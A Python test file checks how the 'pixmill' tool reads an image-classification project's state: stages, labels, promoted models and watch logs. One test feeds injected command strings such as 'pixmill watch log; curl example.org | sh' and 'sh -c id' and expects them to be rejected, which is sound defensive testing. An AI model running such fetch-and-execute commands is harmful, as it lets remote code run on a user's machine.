"""The state of a project has all readable parts, and lists the others as faults."""

import json
import os
import re
import shutil
import time
from pathlib import Path

import pytest

from pixmill.core.repository.dvc import DEFAULT_CACHE
from pixmill.dataset.inbox import Inbox
from pixmill.experiments.promotion.report import Champion
from pixmill.models.model_folder import classifier_files
from pixmill.project import state as project_state
from pixmill.project.findings import count_corrections, find_series, find_undecodable
from pixmill.project.state import ProjectState, read_project_state
from pixmill.serve.predict.model import folder_digest
from tests.project.page.conftest import progress, write
from tests.tiny_project import change_param, copy_begun, copy_project
from tests.version_control import commit, git, hold, living_dvc


def read(root: Path) -> ProjectState:
    return read_project_state(root, full=False)


@pytest.fixture
def default_cache(monkeypatch: pytest.MonkeyPatch) -> None:
    """Skip DVC, which takes a second to start, when locating its cache."""
    for module in ("core.repository.stage_inputs", "dataset.uncommitted"):
        monkeypatch.setattr(f"pixmill.{module}.cache_folder", lambda root: root / DEFAULT_CACHE)


def test_unreadable_parts_are_faults(project: Path) -> None:
    (project / "dvc.lock").write_text("stages: [")
    (project / "plots/train/full.json").write_text("{")
    (project / "artifacts/evaluate/labels.parquet").write_text("no table")
    (project / "pyproject.toml").write_text("[")
    state = read_project_state(project)
    assert state.faults.keys() >= {"stages", "learning curve", "labels", "model in production"}
    assert state.faults["stages"].startswith("dvc.lock is malformed: ")
    assert state.accuracy == (0.9, 0.8, 0.95)
    assert state.repository.has_commit
    assert state.disk["data/"] == 6
    assert state.document()["faults"] == state.faults


def test_quick_read(project: Path) -> None:
    state = read_project_state(project, full=False)
    assert state.disk == {}
    assert state.champion is None
    assert state.is_fresh


def test_read_writes_only_a_cache(project: Path) -> None:
    def files() -> dict[str, bytes]:
        kept = [
            path for path in project.rglob("*") if path.is_file() and ".pixmill" not in path.parts
        ]
        return {str(path): path.read_bytes() for path in kept}

    before = files()
    read_project_state(project)
    assert files() == before
    assert {path.name for path in (project / ".pixmill").rglob("*")} == {"state", "hashes.sqlite"}


@pytest.mark.usefixtures("default_cache")
def test_decided_label_issues_do_not_count(project: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    rows = [{"id": digit * 64, "label": "cat", "suggested": "dog"} for digit in "12345"]
    pq.write_table(pa.Table.from_pylist(rows), project / "artifacts/evaluate/labels.parquet")
    now = [row | {"verdict": "keep", "reason": None} for row in rows]
    now[3]["verdict"] = "drop"
    now[4]["label"] = "dog"
    (project / "artifacts/validate").mkdir(parents=True, exist_ok=True)
    pq.write_table(pa.Table.from_pylist(now), project / "artifacts/validate/manifest.parquet")
    (project / "decisions.csv").write_text(
        "image,label,answer,split,by,why\n"
        f"{'1' * 64},,keep,,,\n{'2' * 64},cat,yes,,ada,\n{'2' * 64},dog,yes,,bo,\n"
    )
    state = read_project_state(project, full=False)
    assert (state.doubtful_labels, state.disputed) == (1, {"2" * 64: "cat (ada) and dog (bo)"})


@pytest.mark.parametrize("is_this_one", [True, False])
def test_promoted_model_is_identified_by_its_commit(
    project: Path, monkeypatch: pytest.MonkeyPatch, *, is_this_one: bool
) -> None:
    promoted = git(project, "rev-parse", "HEAD") if is_this_one else "--output=x"
    monkeypatch.setattr(
        project_state, "_champion", lambda _: Champion("pets", 1, "", None, promoted)
    )
    state = read_project_state(project)
    assert (state.is_promoted, state.is_rolled_back) == (is_this_one, False)
    monkeypatch.setattr(
        project_state, "_champion", lambda _: Champion("pets", 1, "", None, None, (None, promoted))
    )
    state = read_project_state(project)
    assert (state.is_promoted, state.is_rolled_back) == (False, is_this_one)


OUTCOME = {
    "at": "2026-11-30T12:00:00+00:00",
    "week": 1204,
    "alarm": False,
    "accuracy": None,
    "sentence": "pets version 2: no alarm.",
    "advice": "",
    "command": None,
    "log": "log",
    "waiting": 0,
}


@pytest.mark.parametrize(
    ("content", "is_shown"),
    [
        ({**OUTCOME, "model": {"name": "pets", "version": "2"}, "more": 1}, True),
        ({**OUTCOME, "model": {"name": "pets", "version": "1"}}, False),
        ({**OUTCOME, "model": {"name": "pets", "version": None}}, False),
        ({"model": {"name": "pets", "version": "2"}}, False),
        ([], False),
        *(
            (
                OUTCOME
                | {"model": {"name": "pets", "version": "2"}, "alarm": True, "command": command},
                is_ours,
            )
            for command, is_ours in {
                "pixmill watch 'my log' --label 60": True,
                "dvc repro && pixmill promote": True,
                "pixmill watch log; curl example.org | sh": False,
                "sh -c id": False,
                "pixmill watch 'log": False,
                None: False,
            }.items()
        ),
    ],
)
def test_last_watch_counts_if_it_is_of_the_model_in_production(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, content: object, *, is_shown: bool
) -> None:
    write(tmp_path / ".pixmill/watch/last.json", content)
    assert read_project_state(tmp_path, stages=False, full=False).watched is None
    monkeypatch.setattr(project_state, "_champion", lambda _: Champion("pets", 2, "", None))
    watched = read_project_state(tmp_path, stages=False).watched
    if not is_shown:
        assert watched is None
        return
    shown = {name: content[name] for name in OUTCOME if name != "waiting"}
    assert watched == {**shown, "is_answered": False}


def test_last_watch_is_of_the_trained_model_without_one_in_production(tmp_path: Path) -> None:
    for name in classifier_files(tmp_path):
        write(tmp_path / "artifacts/train" / name, "")
    digest = folder_digest(tmp_path / "artifacts/train")
    found = []
    for of in ("0" * 64, digest):
        model = {"name": "pets", "version": None, "digest": of}
        write(tmp_path / ".pixmill/watch/last.json", {**OUTCOME, "model": model})
        found.append(read_project_state(tmp_path, stages=False).watched is not None)
    assert found == [False, True]


def test_a_look_that_is_newer_than_the_decisions_has_read_them(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Even if images still wait, as those whose copies were deleted."""
    monkeypatch.setattr(project_state, "_champion", lambda _: Champion("pets", 2, "", None))
    outcome = {**OUTCOME, "model": {"name": "pets", "version": "2"}, "waiting": 3}
    write(tmp_path / ".pixmill/watch/last.json", outcome)
    write(tmp_path / "decisions.csv", "")
    found = []
    for seconds in (10, -10):
        os.utime(tmp_path / "decisions.csv", (at := time.time() + seconds, at))
        found.append(read_project_state(tmp_path, stages=False).watched["is_answered"])
    assert found == [True, False]


def test_deleted_files(project: Path) -> None:
    (project / "params.yaml").unlink()
    (project / "dvc.yaml").unlink()
    git(project, "rm", "-q", "dvc.lock")
    assert read(project).deleted == ("params.yaml", "dvc.yaml", "dvc.lock")


def test_undecodable_images_must_exist(tmp_path: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    failures = {"a": "truncated", "b": "broken", "c": "broken", "d": "duplicate_pixels:0"}
    seen = {
        "data/cat/1.jpg": "a",
        "data/cat/copy.jpg": "a",
        "data/gone.jpg": "b",
        "https://a.test/1.jpg": "c",
    }
    seen |= {"data/dog/1.jpg": "d", "data/dog/1.svg": None}
    for name in (
        *seen,
        "artifacts/validate/manifest.parquet",
        "artifacts/scrape/sightings.parquet",
    ):
        if name not in ("data/gone.jpg", "https://a.test/1.jpg"):
            (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
            (tmp_path / name).touch()
    manifest = pa.Table.from_pylist(
        [{"id": image, "reason": reason} for image, reason in failures.items()]
    )
    pq.write_table(manifest, tmp_path / "artifacts/validate/manifest.parquet")
    rows = [
        {"id": image, "image_url": url, "reason": None if image else "svg"}
        for url, image in seen.items()
    ]
    pq.write_table(pa.Table.from_pylist(rows), tmp_path / "artifacts/scrape/sightings.parquet")
    found = {
        "data/cat/1.jpg": "truncated",
        "data/cat/copy.jpg": "truncated",
        "data/dog/1.svg": "svg",
    }
    assert find_undecodable(tmp_path) == found


def test_counts_corrections(tmp_path: Path) -> None:
    assert count_corrections(tmp_path) == 0
    fields = {"prediction": {"label": "cat"}, "label": "dog", "model": {"name": "m"}}
    for image in (b"one", b"two"):
        Inbox(tmp_path / "inbox").add(image, extension=".jpg", **fields)
    assert count_corrections(tmp_path) == 2


def test_failed_stage_has_its_error(project: Path) -> None:
    change_param(project, "epochs: 3", "epochs: 5")
    (project / "metrics/train.json").unlink()  # As DVC does before a stage runs.
    for fields, error in (
        ({"failed": "no weights\nNext: wait"}, "no weights\nNext: wait"),
        ({"started": 1.0}, "it was killed"),
    ):
        progress(project, **fields)
        train = read(project).stages[3]
        assert (train.status, train.error) == ("failed", error)
    progress(project, what="Fit", count=40, total=120, unit="image")
    assert read(project).stages[3].text == "running (Fit: 40 of 120 images)"


def test_running_stage_is_found_by_dvc_locks(project: Path) -> None:
    progress(project, root=str(project / ".dvc/tmp/exps/tmp1"), what="Fit")
    with living_dvc() as pid:
        hold(project, "write", ("artifacts/train", pid))
        assert read(project).stages[3].status == "running"
    hold(project, "write", ("artifacts/train", 2**22 - 1))
    assert read(project).is_fresh


def test_wrong_params(tiny_project: Path, tmp_path: Path) -> None:
    project = copy_project(tiny_project, tmp_path / "pets")
    change_param(project, "epochs: 3", "epoch: 3, sed: 2")
    assert re.fullmatch(
        r"params.yaml: train\.\w+: unknown key.* \(and 1 more\)", read(project).wrong_params
    )
    (project / "params.yaml").write_text("[")
    assert read(project).wrong_params.count("params.yaml") == 1


@pytest.mark.usefixtures("default_cache")
def test_awaits_images(tiny_project: Path, tmp_path: Path) -> None:
    project = copy_begun(tiny_project, tmp_path / "new")
    assert {stage.status for stage in read(project).stages} == {"never run"}
    shutil.rmtree(project / "data")
    (project / "data.dvc").unlink()
    assert not read(project).awaits_images  # They may come from elsewhere.
    change_param(project, "scrape: {", "scrape: {source: folder, ")
    assert read(project).awaits_images
    (project / "data.dvc").write_text("outs:\n- md5: x.dir\n  nfiles: 0\n  size: 0\n  path: data\n")
    assert read(project).awaits_images
    (project / "data" / "unlabelled").mkdir(parents=True)
    (project / "data" / "unlabelled" / "1.jpg").write_bytes(b"cat")
    assert not read(project).awaits_images
    assert read(project).awaits_labels
    header = "image,label,answer,split,by,why\n"
    (project / "decisions.csv").write_text(f"{header}data/unlabelled/1.jpg,cat,yes,,,\n")
    assert not read(project).awaits_labels
    (project / "decisions.csv").unlink()
    (project / "data" / "unlabelled").rename(project / "data" / "cat")
    assert not read(project).awaits_labels


def test_two_projects_in_one_repository(tiny_project: Path, tmp_path: Path) -> None:
    both = tmp_path / "both"
    for name, copy in (("one", copy_project), ("two", copy_begun)):
        copy(tiny_project, both / name)
        shutil.rmtree(both / name / ".git")
    git(both, "init", "-q", "-b", "main")
    commit(both)
    progress(both / "one")
    assert read(both / "one").stages[3].status == "running"
    assert read(both / "two").stages[3].status == "never run"
    shutil.rmtree(both / "one/.pixmill")
    (both / "two/notes.md").write_text("x")
    assert read(both / "one").repository.changed == ()
    (both / "one/notes.md").write_text("x")
    assert read(both / "one").repository.changed == ("notes.md",)


def test_shared_cache_is_found(project: Path) -> None:
    (project / ".dvc/cache").rename(project.parent / "cache")
    (project / ".dvc/config.local").write_text("[cache]\n    dir = ../../cache\n")
    shutil.rmtree(project / "artifacts")
    assert read_project_state(project, full=False).is_cached


def test_undecodable_file_name(project: Path) -> None:
    Path(os.fsdecode(os.fsencode(project) + b"/\xff")).touch()
    text = json.dumps(read_project_state(project, full=False).document())
    assert json.loads(text.encode())["repository"]["changed"] == ["\udcff"]


def test_series_are_reported_until_they_are_grouped(tmp_path: Path) -> None:
    assert find_series(tmp_path) is None
    (tmp_path / "artifacts/split").mkdir(parents=True)
    (tmp_path / "artifacts/split/series.json").write_text(
        r'{"sentence": "12 images form 2 series", "group_by": "(clip\\d+)_", "folds": [0]}'
    )
    (tmp_path / "params.yaml").write_text("classes: [cat, dog]\nscrape: {snapshot: '2026-11-20'}\n")
    assert find_series(tmp_path) == "12 images form 2 series"
    (tmp_path / "plots/train").mkdir(parents=True)
    (tmp_path / "plots/train/full.json").write_text(
        '{"val_accuracy": 0.98, "series_accuracy": 0.875}'
    )
    for part in ("98.0 %", "87.5 %", "12 images form 2 series"):
        assert part in find_series(tmp_path)
    (tmp_path / "plots/train/full.json").write_text(
        '{"val_accuracy": 0.902, "series_accuracy": 0.91}'
    )
    assert find_series(tmp_path) == "12 images form 2 series"
    with (tmp_path / "params.yaml").open("a") as params:
        params.write("split: {group_by: '(clip\\d+)_'}\n")
    assert find_series(tmp_path) is None
